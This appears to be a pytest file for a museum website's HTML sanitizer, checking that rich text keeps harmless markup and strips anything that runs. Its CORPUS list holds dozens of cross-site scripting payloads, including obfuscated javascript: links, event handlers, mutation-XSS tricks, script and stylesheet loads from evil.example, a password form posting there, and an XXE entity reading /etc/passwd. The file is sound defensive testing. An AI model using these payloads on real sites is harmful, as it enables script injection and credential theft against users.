"""Texts with a little HTML: harmless marks stay, and nothing that runs, loads or hides comes through."""

from html.parser import HTMLParser

import pytest

from museum.web.rich_text import plain, rich

ALLOWED = {"a", "b", "br", "cite", "em", "i", "q", "ruby", "rb", "rp", "rt", "small", "span", "strong", "sub", "sup"}
ATTRIBUTES = {"href", "lang", "rel"}
CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example></script>",
    "<script\x20type='text/javascript'>javascript:alert(1);</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x:x" onerror="alert(1)">',
    '"><img src=x onerror=alert(1)//',
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg/onload=alert(1)//",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<body onload=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<b/onmouseover=alert(1)>x</b>",
    "<em style='background:url(javascript:alert(1))'>x</em>",
    "<span style='position:fixed;inset:0'>x</span>",
    "<span class='key'>x</span>",
    "<span id='main'>x</span>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x'>x</a>",
    "<a href='x' target='_blank' onclick='alert(1)'>x</a>",
    "<a href='https://x' ping='https://evil.example'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<table background='javascript:alert(1)'>",
    "<div onpointerrawupdate=alert(1)>x</div>",
    "<x onclick=alert(1)>x</x>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    '<a href="https://x" lang="vi\' onmouseover=\'alert(1)">x</a>',
    "<\x00script>alert(1)</script>",
    "\x3cscript\x3ealert(1)\x3c/script\x3e",
    "<img src=`x`onerror=alert(1)>",
    "<<img src=x onerror=alert(1)>>",
    "<b><img src=x onerror=alert(1)></b",
    "<a href=https://x><a href=javascript:alert(1)>x</a></a>",
    "<custom-element onconnected=alert(1)>",
    "<portal src=//evil.example>",
    "<dialog open onclose=alert(1)>",
]


class Judge(HTMLParser):
    """Everything a browser would find in a piece of HTML that is not on the list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            scheme, colon, _ = (value or "").strip().casefold().partition(":")
            if name not in ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            if name == "href" and colon and scheme not in ("http", "https", "mailto"):
                self.found.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append("<!--")

    def handle_decl(self, decl: str) -> None:
        self.found.append("<!")

    def handle_pi(self, data: str) -> None:
        self.found.append("<?")

    def unknown_decl(self, data: str) -> None:
        self.found.append("<![")


def faults(text: str) -> list[str]:
    judge = Judge()
    judge.feed(text)
    judge.close()
    return judge.found


def test_nothing_that_runs_comes_through() -> None:
    tried = [*CORPUS, *(f"Đỉnh đồng {c} thời Minh Mạng" for c in CORPUS), *(c * 2 for c in CORPUS)]
    through = {text: faults(str(rich(text))) for text in tried if faults(str(rich(text)))}
    print(f"{len(tried)} hostile texts cleaned, {len(through)} kept something")
    assert through == {}


def test_judge_finds_what_is_not_cleaned() -> None:
    """The control: uncleaned, nearly all of the corpus is caught (a few are harmless text to a parser)."""
    caught = [text for text in CORPUS if faults(text)]
    assert len(caught) >= len(CORPUS) - 6, [text for text in CORPUS if not faults(text)]


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("Cao < 30 cm & nặng", "Cao &lt; 30 cm &amp; nặng"),
        ("Tom & Jerry", "Tom &amp; Jerry"),
        (
            "<em>Cao đỉnh</em> (<span lang='zh-Hant'>高鼎</span>)",
            '<em>Cao đỉnh</em> (<span lang="zh-Hant">高鼎</span>)',
        ),
        (
            "<a href='https://whc.unesco.org/en/list/678'>UNESCO</a>",
            '<a href="https://whc.unesco.org/en/list/678" rel="noopener nofollow ugc">UNESCO</a>',
        ),
        ("<ruby>高<rt>cao</rt></ruby>", "<ruby>高<rt>cao</rt></ruby>"),
    ],
)
def test_harmless_marks_stay(given: str, shown: str) -> None:
    assert rich(given) == shown


def test_plain_has_no_marks() -> None:
    assert plain("<em>Cao đỉnh</em> & <b>Nhân đỉnh</b>") == "Cao đỉnh & Nhân đỉnh"
    assert plain("Cao 30 cm & nặng") == "Cao 30 cm & nặng"
